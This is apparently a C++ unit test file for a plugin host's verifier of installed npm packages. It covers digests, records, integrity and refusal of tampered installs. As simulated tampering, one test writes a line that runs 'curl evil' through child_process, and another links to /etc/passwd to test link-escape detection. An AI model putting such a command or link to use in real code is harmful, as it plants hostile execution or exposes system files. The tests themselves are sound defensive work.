// The installed package of a foreign server declaration, checked before it runs: the tree's digest
// and record, every kind of change to an install named by its first differing file, the errors for
// a package that is not installed or was installed from another tarball, and the declaration as it
// runs (${package} filled in, the install readable in the sandbox). Installs are built here, file
// by file, as `plugin install` leaves them; tests/foreign_servers installs a real one with npm.
#include "plugin/foreign_package.hpp"
#include "plugin/package_tree.hpp"
#include "fixtures/fixture_support.hpp"
#include "upstream/error_codes.hpp"

#include <boost/json/serialize.hpp>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <cstdlib>
#include <functional>

namespace skillhost::plugin {
namespace {

namespace fs = std::filesystem;
using test::TempDir;
using ::testing::HasSubstr;

// A file and the directories above it.
void write_file(const fs::path& file, std::string_view text) {
    fs::create_directories(file.parent_path());
    test::write_file(file, text);
}

constexpr const char* kIntegrity =
    "sha512-ljj/3S4aGjxdNSQWw6gucKKGnTLdBPWxzapyY/MT2tOVyZwvxChvevXSLPwx59nKJAlVpUVW+cOlnVRXRwiqMQ==";

class ForeignPackageTest : public ::testing::Test {
protected:
    TempDir dir{"skillhost-package"};
    fs::path packages = dir / "packages";
    manifest::ForeignServer server = declared("@scope/server-x", "1.2.3");
    fs::path install = package_install_dir(packages, *server.package);

    manifest::ForeignServer declared(const std::string& npm, const std::string& version,
                                     const std::string& integrity = kIntegrity) {
        manifest::ForeignServer declared;
        declared.name = "x";
        declared.command = "node";
        declared.args = {"${package}/dist/index.js", "--data", "${data_dir}"};
        declared.env = {{"ROOT", "${package}"}};
        declared.working_directory = "${package}";
        declared.file = dir / "plugins/x.yaml";
        declared.package = manifest::ForeignPackage{npm, version, integrity};
        return declared;
    }

    // An install as `plugin install` leaves it: npm's tree, readable by all, and its record.
    void build_install(const std::string& record_integrity = kIntegrity) {
        const fs::path package = package_directory(install, *server.package);
        write_file(package / "package.json", R"({"name":"@scope/server-x","version":"1.2.3"})");
        write_file(package / "dist/index.js", "#!/usr/bin/env node\nconsole.log('hi')\n");
        fs::permissions(package / "dist/index.js",
                        fs::perms::owner_exec | fs::perms::group_exec | fs::perms::others_exec, fs::perm_options::add);
        write_file(install / "node_modules/dep/index.js", "module.exports = 1\n");
        fs::create_directories(install / "node_modules/.bin");
        fs::create_symlink("../@scope/server-x/dist/index.js", install / "node_modules/.bin/server-x");
        write_file(install / "package.json", "{}");
        auto tree = read_package_tree(install, errors::kUpstreamPackageModified);
        ASSERT_TRUE(tree) << tree.error().message;
        const PackageRecord record{server.package->npm, server.package->version, record_integrity, tree.value()};
        write_file(install / kPackageRecordFile, boost::json::serialize(package_record_json(record)));
    }

    Error verify_fails() {
        auto verified = verify_package(server, packages);
        EXPECT_FALSE(verified) << "verified";
        return verified ? Error{} : verified.error();
    }
};

TEST_F(ForeignPackageTest, ScopedAndUnscopedNamesGetADirectoryEachAndThePackageLivesUnderNodeModules) {
    EXPECT_EQ(package_install_dir(packages, {"@scope/server-x", "1.2.3", kIntegrity}),
              packages / "@scope+server-x@1.2.3");
    EXPECT_EQ(package_install_dir(packages, {"server-y", "2026.8.31-beta.1", kIntegrity}),
              packages / "server-y@2026.8.31-beta.1");
    EXPECT_EQ(package_directory(install, *server.package), install / "node_modules/@scope/server-x");
}

TEST_F(ForeignPackageTest, TheTreeListsFilesAndLinksSortedWithModesAndTheDigestFollowsEveryOne) {
    build_install();
    auto tree = read_package_tree(install, errors::kUpstreamPackageModified);
    ASSERT_TRUE(tree) << tree.error().message;
    std::vector<std::string> paths;
    for (const auto& file : tree->files) paths.push_back(file.path);
    EXPECT_EQ(paths, (std::vector<std::string>{
                         "node_modules/.bin/server-x", "node_modules/@scope/server-x/dist/index.js",
                         "node_modules/@scope/server-x/package.json", "node_modules/dep/index.js", "package.json"}))
        << "the record file is not part of the tree";
    EXPECT_EQ(tree->files[0].link, "../@scope/server-x/dist/index.js");
    EXPECT_NE(tree->files[1].mode & 0111, 0u);
    EXPECT_EQ(tree->files[1].sha256.size(), 64u);
    EXPECT_EQ(tree->digest, tree_digest(tree->files));
    EXPECT_TRUE(tree->digest.starts_with("sha256-"));

    auto changed = tree->files;
    changed[3].mode ^= 0004;
    EXPECT_NE(tree_digest(changed), tree->digest);
    changed = tree->files;
    changed[0].link = "../other";
    EXPECT_NE(tree_digest(changed), tree->digest);
}

TEST_F(ForeignPackageTest, TheRecordReadsBackAsItWasWritten) {
    build_install();
    auto tree = read_package_tree(install, errors::kUpstreamPackageModified);
    ASSERT_TRUE(tree);
    const PackageRecord record{"@scope/server-x", "1.2.3", kIntegrity, tree.value()};
    std::string problem;
    auto read = parse_package_record(boost::json::serialize(package_record_json(record)), problem);
    ASSERT_TRUE(read) << problem;
    EXPECT_EQ(read->npm, record.npm);
    EXPECT_EQ(read->integrity, record.integrity);
    EXPECT_EQ(read->tree.digest, record.tree.digest);
    EXPECT_EQ(read->tree.files, record.tree.files);
    EXPECT_FALSE(parse_package_record("[]", problem));
    EXPECT_FALSE(parse_package_record(R"({"format":1,"npm":"x"})", problem));
    EXPECT_FALSE(parse_package_record(
        R"({"format":1,"npm":"x","version":"1","integrity":"i","tree_digest":"d","files":[{"path":"a","mode":"9z","sha256":"s"}]})",
        problem));
}

TEST_F(ForeignPackageTest, TheIntegrityOfAFileIsItsSha512InBase64AsNpmWritesIt) {
    write_file(dir / "empty", "");
    auto integrity = file_integrity_sha512(dir / "empty", errors::kUpstreamPackageInstallFailed);
    ASSERT_TRUE(integrity);
    EXPECT_EQ(integrity.value(),
              "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==");
    EXPECT_FALSE(file_integrity_sha512(dir / "missing", errors::kUpstreamPackageInstallFailed));
}

TEST_F(ForeignPackageTest, AnUnchangedInstallVerifies) {
    build_install();
    auto verified = verify_package(server, packages);
    ASSERT_TRUE(verified) << verified.error().message;
    EXPECT_EQ(verified->install_dir, install);
    EXPECT_EQ(verified->package_dir, install / "node_modules/@scope/server-x");
    EXPECT_EQ(verified->files, 5u);
    EXPECT_EQ(verified->integrity, kIntegrity);
}

TEST_F(ForeignPackageTest, NotInstalledSaysWhichPackageAndToRunPluginInstall) {
    const Error error = verify_fails();
    EXPECT_EQ(error.code, "UPSTREAM_PACKAGE_NOT_INSTALLED");
    EXPECT_THAT(error.message, HasSubstr("@scope/server-x@1.2.3"));
    EXPECT_THAT(error.message, HasSubstr("run `skillhost plugin install " + server.file.string() + "`"));
    EXPECT_EQ(error.details.at("install_dir").as_string(), install.string());
    EXPECT_EQ(error.details.at("manifest").as_string(), server.file.string());
}

TEST_F(ForeignPackageTest, EachKindOfChangeIsRefusedNamingTheFirstFileThatDiffers) {
    const fs::path index = install / "node_modules/@scope/server-x/dist/index.js";
    const std::vector<std::pair<std::function<void()>, std::pair<std::string, std::string>>> changes{
        {[&] { write_file(index, "require('child_process').exec('curl evil')\n"); },
         {"node_modules/@scope/server-x/dist/index.js", "has other content"}},
        {[&] { fs::permissions(install / "package.json", fs::perms::others_write, fs::perm_options::add); },
         {"package.json", "has mode 0646 instead of 0644"}},
        {[&] { write_file(install / "node_modules/dep/extra.js", "x"); }, {"node_modules/dep/extra.js", "was added"}},
        {[&] { fs::remove(install / "node_modules/dep/index.js"); }, {"node_modules/dep/index.js", "was removed"}},
        {[&] {
             fs::remove(install / "node_modules/.bin/server-x");
             fs::create_symlink("../dep/index.js", install / "node_modules/.bin/server-x");
         },
         {"node_modules/.bin/server-x", "now links to ../dep/index.js"}},
    };
    for (const auto& [change, expected] : changes) {
        fs::remove_all(install);
        build_install();
        fs::permissions(install / "package.json", fs::perms(0644));
        // The record holds the mode the tree had when it was made: make it again at 0644.
        fs::remove(install / kPackageRecordFile);
        auto tree = read_package_tree(install, errors::kUpstreamPackageModified);
        ASSERT_TRUE(tree);
        write_file(install / kPackageRecordFile,
                   boost::json::serialize(package_record_json({"@scope/server-x", "1.2.3", kIntegrity, tree.value()})));
        ASSERT_TRUE(verify_package(server, packages));
        change();
        const Error error = verify_fails();
        EXPECT_EQ(error.code, "UPSTREAM_PACKAGE_MODIFIED") << expected.first;
        EXPECT_EQ(error.details.at("file").as_string(), expected.first);
        EXPECT_THAT(error.message, HasSubstr("file " + expected.first + " of npm package @scope/server-x@1.2.3"));
        EXPECT_THAT(error.message, HasSubstr(expected.second));
        EXPECT_THAT(error.message, HasSubstr("skillhost plugin install"));
    }
}

TEST_F(ForeignPackageTest, ALinkOutOfThePackageIsRefusedEvenThroughAnotherLink) {
    build_install();
    fs::create_symlink("/etc/passwd", install / "node_modules/dep/passwd");
    Error error = verify_fails();
    EXPECT_EQ(error.code, "UPSTREAM_PACKAGE_MODIFIED");
    EXPECT_EQ(error.details.at("file"), "node_modules/dep/passwd");
    EXPECT_THAT(error.message, HasSubstr("outside the package"));

    // up -> the install's root, so "up/.." is its parent, though each link alone looks inside.
    fs::remove(install / "node_modules/dep/passwd");
    fs::create_symlink("..", install / "node_modules/up");
    fs::create_symlink("../up/..", install / "node_modules/dep/escape");
    error = verify_fails();
    EXPECT_EQ(error.details.at("file"), "node_modules/dep/escape");
}

TEST_F(ForeignPackageTest, AMissingOrForeignRecordIsAChangedInstall) {
    build_install();
    fs::remove(install / kPackageRecordFile);
    Error error = verify_fails();
    EXPECT_EQ(error.code, "UPSTREAM_PACKAGE_MODIFIED");
    EXPECT_THAT(error.message, HasSubstr("is missing or unreadable"));
    write_file(install / kPackageRecordFile, "not json");
    EXPECT_THAT(verify_fails().message, HasSubstr("is not JSON"));
}

TEST_F(ForeignPackageTest, AnInstallFromAnotherTarballThanTheDeclaredOneIsRefusedNamingBoth) {
    build_install("sha512-AAAA");
    const Error error = verify_fails();
    EXPECT_EQ(error.code, "UPSTREAM_PACKAGE_INTEGRITY");
    EXPECT_THAT(error.message, HasSubstr("sha512-AAAA"));
    EXPECT_THAT(error.message, HasSubstr(kIntegrity));
    EXPECT_EQ(error.details.at("declared_integrity"), kIntegrity);
    EXPECT_EQ(error.details.at("installed_integrity"), "sha512-AAAA");
}

TEST_F(ForeignPackageTest, TheDeclarationRunsWithPackageFilledInAndTheInstallReadableInItsSandbox) {
    build_install();
    auto running = with_installed_package(server, packages);
    ASSERT_TRUE(running) << running.error().message;
    const std::string package = (install / "node_modules/@scope/server-x").string();
    EXPECT_EQ(running->args, (std::vector<std::string>{package + "/dist/index.js", "--data", "${data_dir}"}));
    EXPECT_EQ(running->env.front().second, package);
    EXPECT_EQ(running->working_directory, package);
    EXPECT_EQ(running->files, (std::vector<fs::path>{install}));

    manifest::ForeignServer plain = server;
    plain.package.reset();
    plain.args = {"/opt/server.js"};
    auto unchanged = with_installed_package(plain, packages);
    ASSERT_TRUE(unchanged);
    EXPECT_EQ(unchanged->args, plain.args);
    EXPECT_TRUE(unchanged->files.empty());

    fs::remove_all(install);
    auto refused = with_installed_package(server, packages);
    ASSERT_FALSE(refused);
    EXPECT_EQ(refused.error().code, "UPSTREAM_PACKAGE_NOT_INSTALLED");
}

TEST_F(ForeignPackageTest, WithoutNpmInstallSaysToInstallItAndLeavesNothing) {
    // What an install that crashed left behind goes too.
    write_file(packages / ".staging-@scope+server-x@1.2.3-Ab12Cd/install/package.json", "{}");
    const char* path = std::getenv("PATH");
    const std::string saved = path != nullptr ? path : "";
    fs::create_directories(dir / "empty-bin");
    ::setenv("PATH", (dir / "empty-bin").c_str(), 1);
    auto installed = install_package(server, PackageInstallOptions{packages});
    ::setenv("PATH", saved.c_str(), 1);
    ASSERT_FALSE(installed);
    EXPECT_EQ(installed.error().code, "UPSTREAM_PACKAGE_INSTALL_FAILED");
    EXPECT_THAT(installed.error().message, HasSubstr("npm is not installed"));
    EXPECT_THAT(installed.error().message, HasSubstr("install Node.js and npm"));
    for (const auto& entry : fs::directory_iterator(packages))
        EXPECT_TRUE(entry.path().filename().string().ends_with(".lock")) << entry.path();
}

}  // namespace
}  // namespace skillhost::plugin
